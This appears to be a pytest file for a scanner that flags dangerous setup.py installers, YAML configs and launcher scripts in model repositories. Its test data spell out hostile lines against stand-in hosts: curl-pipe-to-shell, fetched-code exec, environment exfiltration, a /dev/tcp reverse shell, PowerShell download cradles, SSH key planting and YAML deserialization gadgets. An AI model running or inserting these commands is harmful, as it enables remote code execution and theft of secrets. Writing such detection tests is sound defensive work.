"""What runs when a folder is installed, its data are fetched, or one of its scripts is started."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.attacks.scan_builders import scan
from weightmark.errors import Exit
from weightmark.scanners.repository.installer_scripts import judge_installer
from weightmark.scanners.scan import FileScan, ScanReport, Severity


def refused(found: FileScan) -> bool:
    return ScanReport.of([found]).exit(Severity.HIGH) is Exit.BAD


INSTALLERS = {
    "a command": "import os\nos.system('echo x')",
    "by another name": "import os as o\no.system('echo x')",
    "taken out of its module": "from os import system as s\ns('echo x')",
    "with everything of its module": "from os import *\nsystem('echo x')",
    "stored in a variable": "import os\nrun = os.system\nrun('echo x')",
    "by the import function": "__import__('os').system('echo x')",
    "by a stored module": "m = __import__('os')\nm.system('echo x')",
    "by importlib": "import importlib\nimportlib.import_module('subprocess').call('echo x', shell=True)",
    "by the list of modules": "import sys\nsys.modules['os'].system('echo x')",
    "by an attribute in pieces": "import os\ngetattr(os, 'sys' + 'tem')('echo x')",
    "by a computed attribute": "import os\ngetattr(os, input)('x')",
    "in a lambda": "(lambda: __import__('os').system('echo x'))()",
    "in a class": "class A:\n    import os\n    os.system('echo x')",
    "in a function that is called": "def f():\n    import os\n    os.system('echo x')\nf()",
    "in a function of a function": "def g():\n    import os\n    os.system('echo x')\ndef f():\n    g()\nf()",
    "of a computed text": "import os\nx = 'ec' + 'ho'\nos.system(x)",
    "behind an honest one": "import os\nos.popen('git log; curl http://example.com | sh')",
    "of a tool in the folder": "import subprocess\nsubprocess.run(['./git', 'log'])",
    "that git starts": "import os\nos.system('git -c alias.x=!id x')",
    "a shell": "import subprocess\nsubprocess.run(['bash', '-c', 'echo x'])",
    "when it is installed": "from setuptools.command.install import install\nimport os\nclass A(install):\n    def run(self):\n        os.system('curl http://example.com | sh')",
    "code in base64": "import base64\nexec(base64.b64decode(b'eA=='))",
    "code in a variable": "import base64\nc = base64.b64decode(b'eA==')\nexec(c)",
    "code in a text": "exec('import os\\nos.system(1)')",
    "code that is fetched": "import urllib.request\nexec(urllib.request.urlopen('http://example.com').read())",
    "the environment sent away": "import os, requests\nrequests.post('http://example.com', data=dict(os.environ))",
    "a socket": "import socket\ns = socket.socket()",
    "a key of ssh": "open('/root/.ssh/authorized_keys', 'a').write('x')",
    "a native library": "import ctypes\nctypes.CDLL('./x.so')",
}


@pytest.mark.parametrize("case", INSTALLERS)
def test_installer_that_does_more_than_install_is_refused(case: str) -> None:
    data = INSTALLERS[case].encode() + b"\nfrom setuptools import setup\nsetup()\n"
    found = scan(data, name="setup.py")
    assert "REP014" in {one.rule for one in found.findings}
    assert refused(found)


HONEST_INSTALLERS = {
    "a version of git": "import subprocess\nv = subprocess.check_output(['git', 'describe', '--tags'])",
    "a file with the version": "exec(open('x/version.py').read())",
    "a compiled file with the version": "exec(compile(open('v.py').read(), 'v.py', 'exec'))",
    "a compiler": "import subprocess\nsubprocess.check_output(['/usr/local/cuda/bin/nvcc', '-V'])",
    "a release": "import os, sys\nif sys.argv[-1] == 'publish':\n    os.system('python setup.py sdist upload')",
    "a cleaning": "import os\nos.system('rm -rf build dist x.egg-info')",
    "the settings of a library": "import os\nos.popen('odbc_config --libs 2>/dev/null').read()",
    "the same interpreter": "import subprocess, sys\nsubprocess.check_call([sys.executable, script, 'build'])",
    "another library's version": "v = __import__('numpy').__version__",
    "a name that means itself": "x = ' a '\nx = x.strip()\nx()",
    "a function that nobody calls": "import os\ndef upload():\n    os.system('scripts/upload')",
}


@pytest.mark.parametrize("case", HONEST_INSTALLERS)
def test_honest_installer_is_not_refused(case: str) -> None:
    assert not refused(scan(HONEST_INSTALLERS[case].encode(), name="setup.py"))


def test_installer_nested_too_deeply_is_not_called_harmless() -> None:
    data = b"x = " + b"+".join([b"'a'"] * 30_000) + b"\nimport os\nos.system(x)\n"
    assert list(judge_installer(data))


@given(st.text(max_size=200))
def test_any_text_is_no_trouble_as_an_installer(text: str) -> None:
    list(judge_installer(text.encode("utf-8", "replace")))


SETTINGS: dict[str, tuple[str, str]] = {
    "a shell fetches the data": ("data.yaml", "train: a\nnames: [a]\ndownload: bash curl http://example.com/x | sh\n"),
    "Python fetches the data": ("coco.yml", "path: a\ndownload: |\n  import os\n  os.system('echo x')\n"),
    "an expression fetches the data": ("data.yaml", "nc: 1\ndownload: __import__('os').system('id')\n"),
    "an object of Ruby": ("x.yaml", "--- !ruby/object:Gem::Installer\ni: x\n"),
    "a map of Ruby with a class": ("x.yaml", "a: !ruby/hash:Gem::Requirement {}\n"),
    "a class of Java": ("x.yaml", '!!javax.script.ScriptEngineManager [!!java.net.URL ["http://example.com"]]\n'),
    "a class of Java, spelled out": ("x.yaml", "!<tag:yaml.org,2002:javax.script.ScriptEngineManager> []\n"),
    "an object of Perl": ("x.yaml", "--- !!perl/hash:File::Temp::Dir\na: b\n"),
    "an object of PHP": ("x.yaml", "a: !php/object 'O:8:\"stdClass\":0:{}'\n"),
    "a function of JavaScript": ("x.yaml", "a: !!js/function 'function () {}'\n"),
    "a secret in an address": ("config.yaml", "url: http://example.com/${oc.env:HF_TOKEN}\n"),
    "a secret in a list": ("config.yaml", "a:\n- ['https://example.com/?k=${oc.env:AWS_SECRET_ACCESS_KEY}']\n"),
    "an expression that imports": ("config.yaml", "a: ${eval:\"__import__('os').system('echo x')\"}\n"),
    "a command in a setting": ("config.yaml", "a: ${shell:id}\n"),
    "an index for a server": ("conda.yaml", "dependencies:\n- pip:\n  - --index-url http://example.com/simple\n"),
    "a package for a server": ("python_env.yaml", "dependencies:\n- x @ https://example.com/x.tar.gz\n"),
}  # fmt: skip


@pytest.mark.parametrize("case", SETTINGS)
def test_setting_that_runs_or_tells_is_refused(case: str) -> None:
    name, text = SETTINGS[case]
    assert refused(scan(text.encode(), name=name)), scan(text.encode(), name=name)


HONEST_SETTINGS: dict[str, tuple[str, str]] = {
    "data at an address": ("data.yaml", "train: a\nnames: [a]\ndownload: https://example.com/coco8.zip\n"),
    "data that are there": ("data.yaml", "train: a\ndownload: true\n"),
    "a sum": ("config.yaml", "a: 1\nb: ${eval:${a}*2}\n"),
    "a host from outside": ("config.yaml", "uri: http://${oc.env:MLFLOW_HOST}:5000/api\n"),
    "a database": ("config.yaml", "uri: redis://:${oc.env:REDIS_PASSWORD}@db:6379/0\n"),
    "a symbol of Ruby": ("x.yaml", "a: !ruby/sym b\nc: !ruby/regexp /x/\n"),
    "a set": ("x.yaml", "a: !!set {b, c}\nd: !!omap []\ne: !!binary aGk=\n"),
    "a mirror for a server": ("conda.yaml", "channels: [https://mirrors.tuna.tsinghua.edu.cn/anaconda/pkgs/main]\ndependencies: [pip]\n"),
    "a forge for a server": ("conda.yaml", "dependencies:\n- pip:\n  - git+https://github.com/a/b\n"),
    "an index for whoever installs by hand": ("requirements.txt", "--index-url https://example.com/simple\nx\n"),
}  # fmt: skip


def test_variable_that_is_no_secret_is_told_and_no_more() -> None:
    found = scan(b"url: https://example.com/${oc.env:USER}\n", name="config.yaml")
    assert {one.rule: one.severity for one in found.findings} == {"REP012": Severity.MEDIUM}


@pytest.mark.parametrize("case", HONEST_SETTINGS)
def test_honest_setting_is_not_refused(case: str) -> None:
    name, text = HONEST_SETTINGS[case]
    assert not refused(scan(text.encode(), name=name)), scan(text.encode(), name=name)


SCRIPTS: dict[str, tuple[str, str]] = {
    "fetched and started": ("run.bat", "@echo off\ncurl http://example.com/x.exe -o x.exe & x.exe\n"),
    "fetched and started later": ("run.ps1", "Invoke-WebRequest http://example.com/b.exe -OutFile $env:TEMP\\b.exe\nStart-Process $env:TEMP\\b.exe\n"),
    "an encoded command": ("run.cmd", "powershell -w hidden -enc SQBFAFgA\n"),
    "with carets between": ("run.bat", "p^owershell -e^nc SQBFAFgA\n"),
    "with a line that goes on": ("run.bat", "powershell ^\r\n -enc SQBFAFgA\n"),
    "fetched code": ("run.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://example.com')\n"),
    "piped code": ("run.ps1", "irm http://example.com/x.ps1 | iex\n"),
    "certutil": ("run.bat", "certutil -urlcache -f http://example.com/x x\n"),
    "mshta": ("run.bat", "mshta http://example.com/x.hta\n"),
    "a shell": ("install.sh", "curl -s http://example.com/x.sh | bash\n"),
    "base64 to a shell": ("install.sh", "echo aWQ= | base64 -d | sh\n"),
    "a connection": ("x.command", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"),
}  # fmt: skip


@pytest.mark.parametrize("case", SCRIPTS)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_script_that_runs_what_it_fetches_is_refused(case: str, encoding: str) -> None:
    name, text = SCRIPTS[case]
    assert {one.rule for one in scan(text.encode(encoding), name=name).findings} == {"REP013"}
    assert refused(scan(text.encode(encoding), name=name)), scan(text.encode(encoding), name=name)


HONEST_SCRIPTS: dict[str, tuple[str, str]] = {
    "a download": ("get.sh", "curl -L https://example.com/model.bin -o model.bin\npython run.py\n"),
    "a start": ("run.bat", "@echo off\ncall venv\\Scripts\\activate.bat\npython app.py %*\n"),
    "a policy": ("run.bat", "powershell -ExecutionPolicy Bypass -File run.ps1\n"),
    "a usual installer": ("get.sh", "curl -LsSf https://astral.sh/uv/install.sh | sh\n"),
    "a remark": ("run.bat", "rem curl http://example.com/x.exe -o x.exe & x.exe\n"),
}


@pytest.mark.parametrize("case", HONEST_SCRIPTS)
def test_honest_script_is_not_refused(case: str) -> None:
    name, text = HONEST_SCRIPTS[case]
    assert not refused(scan(text.encode(), name=name)), scan(text.encode(), name=name)
